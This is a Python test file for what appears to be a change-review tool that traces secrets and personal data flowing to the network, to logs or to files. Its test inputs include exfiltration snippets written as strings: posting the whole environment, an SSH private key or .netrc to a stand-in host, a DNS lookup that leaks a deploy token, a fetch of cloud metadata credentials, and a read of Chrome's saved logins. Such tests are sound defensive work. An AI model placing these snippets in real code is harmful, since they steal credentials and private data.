"""Flows in Python: ways that are followed, honest forms that pass, and only what is new."""

from __future__ import annotations

import pytest

from tests.facts.effects.support import Files, effects

_HEAD = (
    "import base64\nimport json\nimport logging\nimport os\nimport socket\nimport subprocess\n"
    "from pathlib import Path\n\nimport requests\n\nfrom shop import settings\n\n"
    "log = logging.getLogger(__name__)\nURL = 'https://api.example/v1'\n"
)
_PATH = "src/shop/sync.py"


def _of(body: str, path: str = _PATH, before: str = "") -> set[tuple[str, str, str]]:
    """Kind, severity and confidence of what is new where `body` is put into a function."""
    old, new = _function(before or "return 1"), _function(body)
    return {
        (one.kind, one.severity.value, one.confidence.value)
        for one in effects({path: old}, {path: new})
        if one.kind.startswith("flow.")
    }


def _function(body: str) -> str:
    lines = "".join(f"    {line}\n" for line in body.split("\n"))
    return f"{_HEAD}\n\ndef sync(event, client):\n{lines}"


_BLOCKS = ("flow.secret", "high", "high")
_GRAVE = ("flow.secret", "high", "medium")
_SIGNED = ("flow.secret", "medium", "medium")


@pytest.mark.parametrize(
    "body",
    [
        "requests.post(URL, json=dict(os.environ))",
        "requests.post(URL, data=json.dumps({**event, 'env': dict(os.environ)}))",
        "found = {}\nfor k, v in os.environ.items():\n    found[k] = v\nrequests.post(URL, json=found)",
        "lines = []\nlines.append(str(os.environ))\nrequests.post(URL, data='\\n'.join(lines))",
        "env = os.environ\nrequests.get(f'{URL}?{base64.b64encode(str(env).encode())}')",
        "with socket.create_connection(('a', 80)) as s:\n    s.sendall(str(dict(os.environ)).encode())",
        "key = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post(URL, data=key)",
        "with open(os.path.expanduser('~/.netrc')) as f:\n    requests.put(URL, data=f)",
        "role = requests.get('http://169.254.169.254/latest/iam/').text\nrequests.post(URL, data=role)",
        "socket.gethostbyname(f\"{os.environ['DEPLOY_TOKEN']}.a.example\")",
        "requests.post('https://api.example', data=settings.SECRET_KEY)",
        "subprocess.run(['curl', '-d', str(dict(os.environ)), URL])",
    ],
)
def test_what_is_followed_to_the_network_blocks(body: str) -> None:
    assert _BLOCKS in _of(body)


@pytest.mark.parametrize(
    ("body", "wanted"),
    [
        ("client.send(dict(os.environ))", _GRAVE),
        ("log.info('key %s', settings.API_KEY)", _SIGNED),
        ("log.debug(f\"token {os.getenv('GITHUB_TOKEN')}\")", _SIGNED),
        ("log.info('got %s', dict(event.request.headers))", _SIGNED),
        ("raise ValueError(f'no answer to {settings.API_KEY}')", _SIGNED),
        ("Path('env.json').write_text(json.dumps(dict(os.environ)))", _SIGNED),
        ("requests.post(URL, json={'note': os.environ['SHOP_SECRET']})", _GRAVE),
        ("return (Path.home() / '.netrc').read_text()", ("flow.store", "medium", "medium")),
        (
            "return open('/home/a/google-chrome/Login Data').read()",
            ("flow.store", "high", "medium"),
        ),
        ("log.info('seen %s', event.email)", ("flow.personal", "low", "low")),
    ],
)
def test_what_is_weaker_is_signed_for_or_shown(body: str, wanted: tuple[str, str, str]) -> None:
    assert _of(body) == {wanted}


@pytest.mark.parametrize(
    "body",
    [
        "return requests.get(URL, headers={'Authorization': f'Bearer {settings.API_KEY}'})",
        "return requests.post(URL, auth=('shop', os.environ['SHOP_PASSWORD']), json=event)",
        "return requests.post(URL, data={'grant_type': 'x', 'client_secret': settings.CLIENT_SECRET})",
        "return requests.get(f'{URL}?key={settings.API_KEY}')",
        "subprocess.run(['make'], env={**os.environ, 'CI': '1'}, check=True)",
        "env = os.environ.copy()\nenv['CI'] = '1'\nsubprocess.Popen(['make'], env=env)",
        "log.info('%d characters in %s', len(settings.API_KEY), 'API_KEY')",
        "log.info('key ends in %s', settings.API_KEY[-4:])",
        "log.info('key %s', redact(settings.API_KEY))",
        "log.info('has a key: %s', bool(settings.API_KEY))",
        "log.info('has a key: %s', settings.API_KEY is not None)",
        "for token in event:\n    print(token)",
        "requests.post(URL, json={'region': os.environ['AWS_REGION'], 'max_tokens': event.max_tokens})",
        "log.info('put your key into ~/.netrc')",
        "blocked = ['169.254.169.254']\nreturn event.host in blocked",
        "socket.gethostbyname(socket.gethostname())",
        "log.info('credential %s', event.credential['id'])",
    ],
)
def test_honest_forms_pass(body: str) -> None:
    assert _of(body) == set()


def test_a_key_that_was_there_may_not_go_to_a_new_host() -> None:
    was = "return requests.get(URL, headers={'X-Key': settings.API_KEY})"
    now = f"requests.get('https://other.example/v1', headers={{'X-Key': settings.API_KEY}})\n{was}"
    assert _of(now, before=was) == {_SIGNED}
    again = f"requests.get(URL + '/a', headers={{'X-Key': settings.API_KEY}})\n{was}"
    assert _of(again, before=was) == set()


def test_what_was_there_before_is_not_new() -> None:
    was = "requests.post(URL, json=dict(os.environ))"
    assert _of(f"log.info('sending')\n{was}", before=was) == set()


def test_made_up_secrets_of_tests_are_left_alone_and_the_environment_is_not() -> None:
    assert _of("log.info(settings.API_KEY)", "tests/test_sync.py") == set()
    assert _of("requests.post(URL, json=dict(os.environ))", "tests/test_sync.py") == {_BLOCKS}


def test_both_ends_in_one_function_are_signed_for() -> None:
    body = "event.keep(dict(os.environ))\nevent.flush()\nreturn requests.post(URL, json=event.drain())"
    assert _of(body) == {_SIGNED}


_FACTS = "import os\n\n\ndef facts():\n    return {0}\n"
_BEAT = (
    "import requests\n\nfrom shop.facts import facts\n\n\n"
    "def beat():\n    requests.put('https://a.example', json={0})\n"
)
_SEND = "import requests\n\n\ndef send(payload):\n    requests.post('https://a.example', json=payload)\n"


def _kinds(before: Files, after: Files) -> set[str]:
    return {f"{one.kind} {one.severity.value} {one.confidence.value}" for one in effects(before, after)}


def test_a_way_leads_through_functions_of_other_files_of_the_change() -> None:
    sending, reading = _BEAT.format("facts()"), _FACTS.format("dict(os.environ)")
    before = {"src/shop/beat.py": _BEAT.format("1"), "src/shop/facts.py": _FACTS.format("1")}
    assert _kinds(before, {"src/shop/beat.py": sending, "src/shop/facts.py": reading}) == {
        "flow.secret high high"
    }


def test_a_way_leads_one_call_into_unchanged_files_and_out_of_them() -> None:
    new = _FACTS.format("dict(os.environ)")
    into = {"src/shop/facts.py": new, "src/shop/beat.py": _BEAT.format("1")}
    assert _kinds(into, {"src/shop/beat.py": _BEAT.format("facts()")}) == {"flow.secret high high"}
    out = {"src/shop/facts.py": _FACTS.format("1"), "src/shop/beat.py": _BEAT.format("facts()")}
    assert _kinds(out, {"src/shop/facts.py": new}) == {"flow.secret high high"}
    helper = {"src/shop/send.py": _SEND, "src/shop/a.py": "import os\n"}
    calls = "import os\n\nfrom shop.send import send\n\n\ndef a():\n    send(dict(os.environ))\n"
    assert _kinds(helper, {"src/shop/a.py": calls}) == {"flow.secret high high"}


def test_a_parameter_is_followed_through_calls_inside_a_file() -> None:
    body = (
        f"{_HEAD}\n\ndef ship(payload):\n    post(payload)\n\n\n"
        "def post(data):\n    requests.post(URL, json=data)\n"
        "\n\nclass Beat:\n    def __init__(self):\n        self.facts = dict(os.environ)\n\n"
        "    def run(self):\n        ship(self.facts)\n"
    )
    assert _kinds({_PATH: _HEAD}, {_PATH: body}) == {"flow.secret high high"}


def test_telemetry_that_sends_more_is_signed_for() -> None:
    before = "import sentry_sdk\n\nsentry_sdk.init(dsn='')\n"
    after = "import sentry_sdk\n\nsentry_sdk.init(dsn='', send_default_pii=True)\n"
    assert _kinds({"shop/app.py": before}, {"shop/app.py": after}) == {"flow.secret medium medium"}


def test_what_keeps_secrets_out_of_an_image_may_not_go() -> None:
    before, after = ".git\n.env\n*.pem\n", ".git\n*.pem\n"
    assert "flow.secret medium medium" in _kinds({".dockerignore": before}, {".dockerignore": after})
    assert _kinds({".dockerignore": before}, {".dockerignore": ".git\n.env*\n*.pem\n"}) == set()


def test_a_text_of_many_names_is_followed_in_bounds() -> None:
    chain = "".join(f"a{n} = a{n - 1}\n" for n in range(1, 3000))
    head = "import os\nimport requests\n\na0 = dict(os.environ)\n"
    body = f"{head}{chain}requests.post('https://a.example', json=a2999)\n"
    effects({"shop/a.py": "import os\n"}, {"shop/a.py": body})  # it ends, and nothing is left unasked


def test_functions_that_call_each_other_in_a_circle_are_followed_once() -> None:
    body = (
        f"{_HEAD}\n\ndef first(a, b):\n    second(a, b)\n    requests.post(URL, json=a)\n\n\n"
        "def second(a, b):\n    first(b, a)\n    requests.put(URL, json=b)\n\n\n"
        "def third():\n    first(1, dict(os.environ))\n"
    )
    assert _kinds({_PATH: _HEAD}, {_PATH: body}) == {"flow.secret high high"}


_CLIENT = """import os
import requests
from shop import settings
def call(url, event, app, request):
    token = os.environ["PARTNER_TOKEN"]
    {}
"""


@pytest.mark.parametrize(
    ("before", "after", "wanted"),
    [
        ("pass", "return jsonify(all={name: repr(app.config[name]) for name in app.config})", ["medium"]),
        ("pass", "return jsonify(name=app.config['APP_NAME'])", []),
        ("pass", "log.info({name: getattr(settings, name) for name in dir(settings)})", ["medium"]),
        ("pass", "log.info(getattr(settings, 'APP_NAME'))", []),
        ("pass", "log.info(settings.DATABASE_URL)", ["medium"]),
        ("pass", "log.info(settings.BASE_URL)", []),
        ("pass", "requests.get(url, headers={'User-Agent': f'shop/{settings.SECRET_KEY}'})", ["high"]),
        ("pass", "requests.get(url, headers={'X-Api-Key': settings.SECRET_KEY})", []),
        ("pass", "requests.get(url, headers={n: v for n, v in request.headers if n != 'host'})", ["medium"]),
        ("pass", "requests.get(url, headers={'Accept': request.headers['Accept']})", []),
        (
            "requests.post(url, headers={'Authorization': token})",
            "requests.post(url, params={'access_token': token})",
            ["medium"],
        ),
        ("requests.post(url, params={'token': token})", "requests.put(url, params={'token': token})", []),
        ("pass", "requests.get('http://' + '.'.join(map(str, (169, 254, 169, 254)))).json()", ["medium"]),
        ("pass", "requests.get('http://' + '.'.join(map(str, (192, 0, 2, 1)))).json()", []),
    ],
)
def test_all_settings_addresses_and_headers(before: str, after: str, wanted: list[str]) -> None:
    found = effects({"shop/a.py": _CLIENT.format(before)}, {"shop/a.py": _CLIENT.format(after)})
    assert [one.severity.value for one in found if one.kind.startswith("flow.")] == wanted
